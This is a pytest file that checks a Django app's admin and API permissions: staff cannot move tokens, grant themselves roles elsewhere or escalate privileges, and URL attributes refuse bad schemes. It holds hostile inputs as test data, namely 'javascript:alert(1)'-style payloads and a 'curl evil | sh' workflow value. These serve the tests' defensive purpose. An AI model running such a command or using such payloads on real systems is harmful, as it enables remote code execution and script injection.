"""Issue 22's admin points, each as the staff user or superuser who tried it sees it.

Every test drives the real admin views (Django's test client, real forms, real database)
and asserts the answer and the rows stored afterwards.
"""

from __future__ import annotations

from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from rest_framework.test import APIClient

from crunch.access import grant
from crunch.choices import AttributeKind, Role
from crunch.models import AccessToken, Attribute, Dataset, Item, Project, ProjectRole, Status
from tests.factories import make_dataset, make_project, make_user
from tests.server.admin_kit import errors, post_form, signed_in, staff
from tests.server.admin_permission_table import ADMIN_ROLES, ADMIN_ROWS, TARGETS

pytestmark = pytest.mark.django_db
User = get_user_model()


@pytest.fixture
def root() -> Any:
    return User.objects.create_superuser("root")


@pytest.fixture
def alpha() -> Project:
    return make_project(name="Alpha")


@pytest.fixture
def beta() -> Project:
    return make_project(name="Beta")


@pytest.fixture
def keeper(alpha: Project) -> Any:
    """Staff with every crunch model permission, maintainer of alpha only."""
    user = staff("keeper")
    grant(Role.MAINTAINER, project=alpha, user=user)
    return user


def test_a_tokens_user_never_changes_and_staff_make_tokens_only_for_themselves(
    keeper: Any, root: Any
) -> None:
    token = AccessToken.objects.create(user=keeper, name="mine")
    client = signed_in(keeper)
    url = f"/admin/crunch/accesstoken/{token.pk}/change/"

    moved = post_form(client, url, {"user": root.pk, "name": "mine"})
    added = post_form(client, "/admin/crunch/accesstoken/add/", {"user": root.pk, "name": "new"})
    as_root = post_form(signed_in(root), url, {"user": root.pk, "name": "renamed"})

    assert (moved.status_code, added.status_code, as_root.status_code) == (302, 302, 302)
    token.refresh_from_db()
    assert (token.user, token.name) == (keeper, "renamed")  # the name changed, not the user
    assert AccessToken.objects.get(name="new").user == keeper
    assert not AccessToken.objects.filter(user=root).exists()


def test_staff_grant_roles_only_on_projects_they_maintain_never_on_every_project(
    keeper: Any, alpha: Project, beta: Project
) -> None:
    client = signed_in(keeper)
    url = "/admin/crunch/projectrole/add/"
    other = User.objects.create_user("other")

    on_beta = post_form(client, url, {"project": beta.pk, "user": keeper.pk, "role": "maintainer"})
    everywhere = post_form(client, url, {"project": "", "user": keeper.pk, "role": "maintainer"})
    on_alpha = post_form(client, url, {"project": alpha.pk, "user": other.pk, "role": "viewer"})

    assert (on_beta.status_code, everywhere.status_code, on_alpha.status_code) == (200, 200, 302)
    assert "Select a valid choice" in errors(on_beta)
    assert "Only a superuser may grant a role on every project." in errors(everywhere)
    roles = ProjectRole.objects.values_list("project__slug", "user__username", "role")
    assert sorted(roles) == [("alpha", "keeper", "maintainer"), ("alpha", "other", "viewer")]


def test_staff_place_and_move_nothing_into_a_project_they_have_no_role_on(
    keeper: Any, alpha: Project, beta: Project
) -> None:
    mine = make_dataset(alpha, name="mine")
    theirs = make_dataset(beta, name="theirs")
    client = signed_in(keeper)

    answers = [
        post_form(client, "/admin/crunch/dataset/add/", {"project": beta.pk, "name": "planted"}),
        post_form(client, f"/admin/crunch/dataset/{mine.pk}/change/", {"project": beta.pk}),
        post_form(client, "/admin/crunch/item/add/", {"dataset": theirs.pk, "name": "planted"}),
        post_form(
            client,
            "/admin/crunch/attribute/add/",
            {"dataset": theirs.pk, "kind": "char", "key": "planted", "text": "x"},
        ),
        post_form(
            client, "/admin/crunch/status/add/", {"dataset": theirs.pk, "stage": 1, "state": 1}
        ),
    ]

    assert [answer.status_code for answer in answers] == [200, 302, 200, 200, 403]
    for refused in (answers[0], answers[2], answers[3]):
        assert "Select a valid choice. That choice is not one of" in errors(refused)
    assert Dataset.objects.get(pk=mine.pk).project == alpha  # the project is read-only
    assert sorted(Dataset.objects.values_list("slug", flat=True)) == ["alpha:mine", "beta:theirs"]
    assert not Item.objects.exists()
    assert not Attribute.objects.exists()
    assert not Status.objects.exists()


def test_the_admin_saves_a_dataset_and_an_item_as_their_pages_show_them(
    root: Any, alpha: Project
) -> None:
    dataset = make_dataset(alpha, name="scan one", priority=2)
    item = Item.objects.create(dataset=dataset, name="left eye")
    client = signed_in(root)

    unchanged = post_form(client, f"/admin/crunch/dataset/{dataset.pk}/change/", {})
    changed = post_form(client, f"/admin/crunch/item/{item.pk}/change/", {"description": "new"})
    added = post_form(client, "/admin/crunch/dataset/add/", {"project": alpha.pk, "name": "Two"})

    assert [unchanged.status_code, changed.status_code, added.status_code] == [302, 302, 302]
    stored = Dataset.objects.get(pk=dataset.pk)
    assert (stored.slug, stored.priority, stored.base_file_path) == (
        "alpha:scan-one", 2, "crunch/alpha/scan-one",
    )  # fmt: skip
    assert Item.objects.get(pk=item.pk).description == "new"
    two = Dataset.objects.get(name="Two")
    assert (two.slug, two.base_file_path) == ("alpha:two", "crunch/alpha/two")


BAD_URLS = ["javascript:alert(1)", "JavaScript:alert(1)", "data:text/html,<b>x</b>", "not a url"]


@pytest.mark.parametrize("value", BAD_URLS)
def test_a_url_attribute_is_refused_in_the_admin_as_in_the_api(
    root: Any, alpha: Project, value: str
) -> None:
    dataset = make_dataset(alpha, name="d")
    client = signed_in(root)
    api = APIClient()
    api.force_authenticate(root)

    alone = post_form(
        client, "/admin/crunch/attribute/add/",
        {"dataset": dataset.pk, "kind": AttributeKind.URL, "key": "link", "text": value},
    )  # fmt: skip
    inline = post_form(
        client, f"/admin/crunch/dataset/{dataset.pk}/change/",
        {"attributes-TOTAL_FORMS": "1", "attributes-0-kind": AttributeKind.URL,
         "attributes-0-key": "link", "attributes-0-text": value},
    )  # fmt: skip
    on_project = post_form(
        client, f"/admin/crunch/project/{alpha.pk}/change/",
        {"attributes-TOTAL_FORMS": "1", "attributes-0-kind": AttributeKind.URL,
         "attributes-0-key": "link", "attributes-0-text": value},
    )  # fmt: skip
    by_api = api.post(
        "/api/attributes/url/", {"item": dataset.slug, "key": "link", "value": value},
        format="json",
    )  # fmt: skip

    assert [alone.status_code, inline.status_code, on_project.status_code] == [200, 200, 200]
    assert all("Enter a valid URL." in errors(page) for page in (alone, inline, on_project))
    assert by_api.status_code == 400
    assert not Attribute.objects.exists()


def test_a_good_url_attribute_is_kept_in_the_admin_and_the_api(root: Any, alpha: Project) -> None:
    dataset = make_dataset(alpha, name="d")
    api = APIClient()
    api.force_authenticate(root)

    page = post_form(
        signed_in(root), "/admin/crunch/attribute/add/",
        {"dataset": dataset.pk, "kind": AttributeKind.URL, "key": "a", "text": "https://x.org/a"},
    )  # fmt: skip
    by_api = api.post(
        "/api/attributes/url/", {"item": dataset.slug, "key": "b", "value": "https://x.org/b"},
        format="json",
    )  # fmt: skip

    assert (page.status_code, by_api.status_code) == (302, 201)
    assert sorted(Attribute.objects.values_list("key", "text")) == [
        ("a", "https://x.org/a"), ("b", "https://x.org/b"),
    ]  # fmt: skip


def test_a_staff_maintainer_reaches_no_superuser_right_through_the_admin(
    root: Any, alpha: Project, beta: Project
) -> None:
    """The audit's path: reassign one's token, grant oneself roles, then use the key."""
    keeper, key = make_user("keeper", role="maintainer", projects=[alpha])
    keeper.is_staff = True
    keeper.save()
    keeper.user_permissions.add(*Permission.objects.filter(content_type__app_label="crunch"))
    token = AccessToken.objects.get(user=keeper)
    client = signed_in(keeper)

    post_form(client, f"/admin/crunch/accesstoken/{token.pk}/change/", {"user": root.pk})
    for project in (beta.pk, ""):
        post_form(
            client, "/admin/crunch/projectrole/add/",
            {"project": project, "user": keeper.pk, "role": "maintainer"},
        )  # fmt: skip
    assert AccessToken.objects.get(pk=token.pk).user == keeper
    roles = ProjectRole.objects.filter(user=keeper).values_list("project__slug", flat=True)
    assert list(roles) == ["alpha"]

    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {key}")
    patched = api.patch("/api/projects/beta/", {"workflow": "curl evil | sh"}, format="json")
    created = api.post("/api/projects/", {"name": "Mine"}, format="json")

    assert patched.status_code == 403  # staff see every project, and edit only their own
    assert Project.objects.get(pk=beta.pk).workflow == beta.workflow
    # Creating projects is what Django's crunch.add_project grants (as in the API): the
    # project made is keeper's alone, and keeper still maintains nothing else.
    assert created.status_code == 201
    assert sorted(roles.all()) == ["alpha", "mine"]


def test_no_staff_role_may_do_in_the_admin_what_a_superuser_may_not() -> None:
    """From the table: staff succeed only where a superuser does, and the superuser's own
    powers are exactly these (anything added to them must be added here on purpose)."""
    only_superuser = set()
    for row in ADMIN_ROWS:
        for target in TARGETS:
            root_made = row.expected("superuser", target)[1]
            staff_made = [row.expected(role, target)[1] for role in ADMIN_ROLES[1:]]
            assert root_made or not any(staff_made), (row.name, target)
            if root_made and not any(staff_made):
                only_superuser.add((row.name, target))
    assert {name for name, target in only_superuser if target == "own"} == {
        "grant oneself maintainer of every project", "move role to the other project",
        "delete a role on every project",
    }  # fmt: skip


def test_a_token_added_in_the_admin_shows_its_key_once_and_the_key_works(
    keeper: Any, alpha: Project
) -> None:
    import re

    from rest_framework.test import APIClient

    client = signed_in(keeper)
    added = post_form(client, "/admin/crunch/accesstoken/add/", {"name": "laptop"})
    assert added.status_code == 302
    shown = client.get(added["Location"]).content.decode()  # the message, on the next page
    key = re.search(r"The key of laptop of \S+: ([0-9a-f]{40})", shown)
    assert key is not None, shown
    again = client.get(added["Location"]).content.decode()
    assert key.group(1) not in again  # shown once
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {key.group(1)}")
    assert api.get(f"/api/projects/{alpha.slug}/").status_code == 200
